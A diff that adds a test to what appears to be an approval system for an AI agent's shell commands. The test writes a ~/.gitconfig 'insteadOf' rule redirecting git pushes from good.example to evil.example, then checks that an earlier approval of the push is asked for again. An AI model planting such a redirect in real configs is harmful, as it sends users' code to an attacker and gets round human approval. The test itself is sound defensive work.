@@ -105,6 +105,22 @@ async def test_a_makefile_swapped_after_the_yes_asks_again(client: Client, share
     asked(await agent.make())
 
 
+async def test_where_a_push_goes_by_a_file_at_home_is_part_of_the_yes(client: Client, shared: Home) -> None:
+    agent, program = (
+        Agent(client, shared, "home"),
+        "import os; open(os.path.expanduser('~/.gitconfig'), 'a').write('%s')",
+    )
+    await agent.put("x.py", program % '[url "https://evil.example/"]\\n\\tinsteadOf = https://good.example/\\n')
+    push = "git push https://good.example/x main"
+    approval = asked(await agent.call("shell", command=push))
+    agent.allow(approval)
+
+    ran = await agent.call("shell", command="python3 x.py")
+    assert not ran.is_error, text_of(ran)
+    assert asked(await agent.call("shell", command=push)) != approval
+    assert "/.gitconfig" in agent.shown()
+
+
 async def test_of_two_runs_on_a_yes_for_once_one_runs(client: Client, shared: Home) -> None:
     agent, results = Agent(client, shared, "race"), list[CallToolResult]()
 
